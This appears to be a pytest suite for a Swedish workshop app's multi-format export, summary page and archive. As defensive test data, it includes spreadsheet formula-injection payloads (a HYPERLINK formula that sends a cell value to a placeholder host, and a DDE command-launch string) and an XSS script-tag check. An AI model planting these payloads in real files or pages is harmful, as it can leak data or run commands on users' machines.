"""The appendix over HTTP: a workshop run through the API and real
participant sockets, downloaded in every format and parsed back; the summary
fragment; the archive list."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import docx
import pypdf
import pytest

from tests.conftest import bearer, ok
from tests.render.conftest import SCRIPT, STATEMENTS, SWEDISH
from workshop.barometer.domain_summary import verbal_summary

SEED = [row[0] for row in STATEMENTS]  # the Värmland day's statements
TEXTS = SEED + [SCRIPT]
COMMENT = "använda resurser gemensamt, bli starka"
SCRIPT_COMMENT = f"{SCRIPT} & {SWEDISH}"
# Each statement's positions from four phones (after any moves).
PATTERNS = [[80, 90, 100, 85], [10, "pass", 30, 60], [40, 90, 75, 80], [5, 50, 55, "pass"]]
TOPICS = [("Projektledning", "Helena Olsson"), ("Folkhälsa, psykisk hälsa", None)]
NOTES = [
    ("text", "Struktur – nästa steg", {}),
    ("key_point", "Det måste finnas någon ansvarig", {}),
    ("proposal", "Bjuda in alla idéburna organisationer", {"who": "Arbetsgruppen", "when": "mars 2016"}),
    ("question", f"Ekonomi? Vem betalar {SWEDISH}", {}),
]
MIMETYPES = {
    "pdf": "application/pdf",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "html": "text/html",
    "md": "application/zip",
    "csv": "application/zip",
    "json": "application/json",
}
EXTENSIONS = {"pdf": "pdf", "docx": "docx", "html": "html", "md": "md.zip", "csv": "csv.zip", "json": "json"}


def flat(text: str) -> str:
    return " ".join(text.split())


@pytest.fixture
def ran(api, phone):
    """The whole day: statements answered by four phones (one moves, some
    pass), comments, then Open Space topics and notes of every kind."""
    phones = [phone() for _ in range(4)]
    finals = []
    for i, text in enumerate(TEXTS):
        sid = api("POST", "/statements", {"text": text})["id"]
        api("POST", f"/statements/{sid}/open")
        if i == 2:
            # Settles at 0 (the phone says so), then changes its mind.
            ok(phones[0], "position", {"statement": sid, "value": 0, "settled": True})
        values = PATTERNS[i % len(PATTERNS)]
        for p, value in zip(phones, values):
            ok(p, "position", {"statement": sid, "value": value})
        finals.append([v for v in values if v != "pass"])
        if i == 2:
            api("POST", f"/statements/{sid}/comments", {"text": COMMENT})
        if text == SCRIPT:
            api("POST", f"/statements/{sid}/comments", {"text": SCRIPT_COMMENT})
        api("POST", f"/statements/{sid}/close")
    topic_ids = [
        api("POST", "/topics", {"title": title, "convener": convener})["id"] for title, convener in TOPICS
    ]
    for kind, text, more in NOTES:
        ok(phones[1], "note", {"topic": topic_ids[0], "text": text, "kind": kind, **more})
    ok(phones[2], "note", {"topic": topic_ids[1], "text": "Samverkan kring föreningar", "kind": "text"})
    passes = [sum(1 for v in PATTERNS[i % len(PATTERNS)] if v == "pass") for i in range(len(TEXTS))]
    return {
        "summaries": {
            lang: [verbal_summary(v, n).text(lang) for v, n in zip(finals, passes)] for lang in ("sv", "en")
        }
    }


def download(client, workshop, fmt, headers=None, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return client.get(
        f"/api/workshops/{workshop['id']}/export.{fmt}" + (f"?{query}" if query else ""),
        headers=headers or {},
    )


class _Text(HTMLParser):
    def __init__(self):
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)


def html_text(html: str) -> str:
    parser = _Text()
    parser.feed(html)
    return flat(" ".join(parser.parts))


def text_of(fmt: str, body: bytes) -> str:
    """Everything a reader of the file sees, as one whitespace-flat string."""
    if fmt == "pdf":
        reader = pypdf.PdfReader(io.BytesIO(body))
        return flat("\n".join(page.extract_text() for page in reader.pages))
    if fmt == "docx":
        document = docx.Document(io.BytesIO(body))
        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
        return flat("\n".join([p.text for p in document.paragraphs] + cells))
    if fmt == "html":
        return html_text(body.decode("utf-8"))
    if fmt == "json":
        return flat(json.dumps(json.loads(body), ensure_ascii=False))
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        if fmt == "md":
            # Undo Markdown's backslash escapes: what a reader sees rendered.
            return flat(re.sub(r"\\([^\w\s])", r"\1", zf.read("appendix.md").decode("utf-8")))
        rows = []
        for name in zf.namelist():
            rows += csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig")))
        return flat("\n".join(" ".join(r) for r in rows))


@pytest.mark.parametrize("fmt", list(MIMETYPES))
def test_every_format_holds_the_whole_day(client, workshop, fac, ran, fmt):
    r = download(client, workshop, fmt, headers=fac)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    assert r.mimetype == MIMETYPES[fmt]
    disposition = r.headers["Content-Disposition"]
    # Named by the title, in the workshop's language (Swedish).
    assert disposition == (
        f"attachment; filename=bilaga-inspirationsdag-varmland-{ran_date(workshop)}.{EXTENSIONS[fmt]}"
    )
    assert r.headers["Cache-Control"] == "no-store"
    text = text_of(fmt, r.data)
    for statement in TEXTS:
        assert flat(statement) in text
    if fmt != "json":  # JSON carries summaries once per language; checked below
        for summary in ran["summaries"]["sv"]:
            assert summary in text
    for needle in (
        COMMENT,
        SCRIPT_COMMENT,
        SWEDISH,
        "Samverkan kring föreningar",
        *(title for title, _ in TOPICS),
        *(text for _, text, _ in NOTES),
    ):
        assert flat(needle) in text, needle
    if fmt not in ("csv", "json"):
        assert "Helena Olsson" in text and "Arbetsgruppen" in text


def ran_date(workshop) -> str:
    return workshop["created_at"][:10]  # statements were opened today, like it was made


def test_json_summaries_and_counts(client, workshop, fac, ran):
    doc = download(client, workshop, "json", headers=fac).get_json()
    assert [s["text"] for s in doc["statements"]] == TEXTS
    assert [s["summary_text"] for s in doc["statements"]] == ran["summaries"]["sv"]
    third = doc["statements"][2]
    assert third["movement"]["moved"] == 1 and len(third["history"]) == 5
    assert [c["text"] for c in third["comments"]] == [COMMENT]
    assert doc["statements"][1]["passes"] == 1
    assert doc["workshop"]["participants"] == 4
    topics = doc["openspace"]["topics"]
    assert [t["title"] for t in topics] == [t for t, _ in TOPICS]
    assert [n["kind"] for n in topics[0]["notes"]] == [k for k, _, _ in NOTES]


def test_html_export_escapes_user_text(client, workshop, fac, ran):
    r = download(client, workshop, "html", headers=fac)
    html = r.get_data(as_text=True)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]


def test_language_override(client, workshop, fac, ran):
    en = download(client, workshop, "pdf", headers=fac, lang="en")
    assert "filename=appendix-" in en.headers["Content-Disposition"]
    en_text = text_of("pdf", en.data)
    assert "Appendix – Opinion barometer and Open Space – Inspirationsdag Värmland" in en_text
    for summary in ran["summaries"]["en"]:
        assert summary in en_text
    sv_doc = download(client, workshop, "docx", headers=fac)
    sv_title = docx.Document(io.BytesIO(sv_doc.data)).core_properties.title
    assert (
        sv_title
        == f"Bilaga – Åsiktsbarometer och Open Space – Inspirationsdag Värmland, {ran_date(workshop)}"
    )
    assert download(client, workshop, "json", headers=fac, lang="en").get_json()["lang"] == "en"
    assert download(client, workshop, "json", headers=fac, lang="sv-SE").get_json()["lang"] == "sv"
    bad = download(client, workshop, "json", headers=fac, lang="de")
    assert bad.status_code == 400 and bad.get_json()["error"]


def test_english_workshop_exports_in_english(client, admin):
    w = client.post(
        "/api/workshops", json={"title": "Spring day", "language": "en"}, headers=admin
    ).get_json()
    r = download(client, w, "json", headers=bearer(w["facilitator_key"]))
    assert r.get_json()["title"].startswith("Appendix – ")
    assert "filename=appendix-" in r.headers["Content-Disposition"]


def test_who_may_download(client, workshop, fac, admin):
    assert download(client, workshop, "json").status_code == 401
    assert download(client, workshop, "json", headers=bearer(workshop["projector_key"])).status_code == 403
    assert download(client, workshop, "json", headers=bearer("wrong")).status_code == 403
    assert download(client, workshop, "json", headers=admin).status_code == 200
    assert download(client, workshop, "pdf", key=workshop["facilitator_key"]).status_code == 200
    assert download(client, workshop, "json", key=workshop["projector_key"]).status_code == 403
    assert download(client, workshop, "json", key="wrong").status_code == 403
    # ?key= takes the facilitator key only: the admin token never travels in a URL.
    assert download(client, workshop, "json", key=admin["Authorization"].split()[1]).status_code == 403
    r = download(client, workshop, "xlsx", headers=fac)
    assert r.status_code == 404 and r.get_json()["error"]
    r = client.get("/api/workshops/nope/export.pdf", headers=fac)
    assert r.status_code == 404 and r.get_json()["error"]


def test_export_of_an_empty_workshop(client, workshop, fac):
    for fmt in MIMETYPES:
        assert download(client, workshop, fmt, headers=fac).status_code == 200


# -- user text that spreadsheets or matplotlib would run -----------------------------------------
# Two "$" make matplotlib read the text between as mathtext; these do not parse.
MATHTEXT_TITLES = ["a ${ b $", "x^2 $^$"]


@pytest.mark.parametrize("fmt", ["pdf", "docx", "html", "md"])
def test_dollar_signs_in_a_topic_title_keep_the_charted_exports_working(client, workshop, fac, api, fmt):
    for title in MATHTEXT_TITLES:
        api("POST", "/topics", {"title": title})  # any phone may propose one
    r = download(client, workshop, fmt, headers=fac)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    text = text_of(fmt, r.data)
    for title in MATHTEXT_TITLES:
        assert title in text


FORMULAS = {
    "space": '=HYPERLINK("http://x"&A1,"klick")',
    "slot": "+cmd|' /C calc'!A0",
    "other_slot": "@SUM(1)",
}


def test_csv_guards_room_and_slot_names_against_formulas(client, workshop, fac, api):
    space = api("POST", "/spaces", {"name": FORMULAS["space"]})["id"]
    for key, starts_at in (("slot", "13:00"), ("other_slot", "14:00")):
        slot = api("POST", "/slots", {"label": FORMULAS[key], "starts_at": starts_at, "minutes": 45})["id"]
        topic = api("POST", "/topics", {"title": f"Område {key}"})["id"]
        api("PUT", f"/topics/{topic}/placement", {"space": space, "slot": slot})
    r = download(client, workshop, "csv", headers=fac)
    with zipfile.ZipFile(io.BytesIO(r.data)) as zf:
        topics = list(csv.DictReader(io.StringIO(zf.read("topics.csv").decode("utf-8-sig"))))
    assert [(t["space"], t["slot"]) for t in topics] == [
        ("'" + FORMULAS["space"], "'" + FORMULAS["slot"]),
        ("'" + FORMULAS["space"], "'" + FORMULAS["other_slot"]),
    ]


# -- the summary page ------------------------------------------------------------
def test_summary_fragment(client, workshop, fac, ran):
    url = f"/api/workshops/{workshop['id']}/summary.html"
    assert client.get(url).status_code == 401
    assert client.get(url, headers=bearer(workshop["projector_key"])).status_code == 403
    r = client.get(f"{url}?lang=en", headers=fac)
    assert r.status_code == 200 and r.mimetype == "text/html"
    html = r.get_data(as_text=True)
    assert "<script" not in html.lower() and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count('role="img"') == len(TEXTS)  # one strip chart per statement, with alt text
    assert html.count("<title id=") == len(TEXTS)
    text = html_text(html)
    for needle in [
        *map(flat, TEXTS),
        *ran["summaries"]["en"],
        COMMENT,
        SCRIPT_COMMENT,
        "Projektledning",
        "Helena Olsson",
        "Key points",
        "Det måste finnas någon ansvarig",
        "Proposals and next steps",
        "Arbetsgruppen",
    ]:
        assert needle in text, needle
    assert "moved" in text  # the movement sentence
    sv = client.get(f"{url}?key={workshop['facilitator_key']}&lang=sv").get_data(as_text=True)
    for summary in ran["summaries"]["sv"]:
        assert summary in html_text(sv)


def test_summary_page_shell_and_console_link(client, workshop):
    page = client.get(f"/console/{workshop['id']}/summary")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "js/summary.js" in html and 'data-format="pdf"' in html
    assert workshop["facilitator_key"] not in html  # keys live in the URL fragment only
    assert client.get("/console/nope/summary").status_code == 404
    console = client.get(f"/console/{workshop['id']}").get_data(as_text=True)
    assert 'id="summary-link"' in console and "js/console_summary_link.js" in console


# -- the archive -------------------------------------------------------------------
def test_archive_lists_counts_and_date(client, admin, workshop, ran):
    r = client.get("/api/workshops", headers=admin)
    [row] = [w for w in r.get_json()["workshops"] if w["id"] == workshop["id"]]
    assert (row["participants"], row["statements"], row["topics"], row["notes"]) == (
        4,
        len(TEXTS),
        len(TOPICS),
        len(NOTES) + 1,
    )
    assert row["date"] == ran_date(workshop)
    assert "facilitator_key" not in row


def test_delete_removes_everything(client, admin, workshop, fac, store, ran):
    assert client.delete(f"/api/workshops/{workshop['id']}", headers=fac).status_code == 204
    for table in (
        "participants",
        "statements",
        "positions",
        "position_changes",
        "comments",
        "topics",
        "topic_notes",
        "topic_interest",
        "topic_presence",
    ):
        assert store.db.execute(f"SELECT count(*) FROM {table}").fetchone()[0] == 0, table
    assert download(client, workshop, "pdf", headers=admin).status_code == 404
    assert all(
        w["id"] != workshop["id"] for w in client.get("/api/workshops", headers=admin).get_json()["workshops"]
    )


# -- rendering off the event loop ------------------------------------------------------
def test_run_off_loop_uses_a_real_thread_under_gevent():
    pytest.importorskip("gevent")
    import threading

    from workshop.render.offload import run_off_loop

    here = threading.get_ident()
    assert run_off_loop(lambda a, b: (a + b, threading.get_ident() != here), 1, 2, mode="gevent") == (3, True)
    assert run_off_loop(lambda: threading.get_ident() == here, mode="threading") is True

    def fails():
        raise ValueError("render failed")

    with pytest.raises(ValueError, match="render failed"):
        run_off_loop(fails, mode="gevent")


def test_starting_the_app_imports_no_renderer(tmp_path):
    # A restarted server takes a hall of phones back first: matplotlib, fpdf2
    # and python-docx (~1.3 s of imports) wait for the first export.
    import subprocess
    import sys

    code = (
        "import sys, os\n"
        f"os.environ['WORKSHOP_DATA_DIR'] = {str(tmp_path)!r}\n"
        "from workshop import create_app\n"
        "from workshop.config import from_env\n"
        "create_app(from_env())\n"
        "print(sorted(m for m in ('matplotlib', 'fpdf', 'docx') if m in sys.modules))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
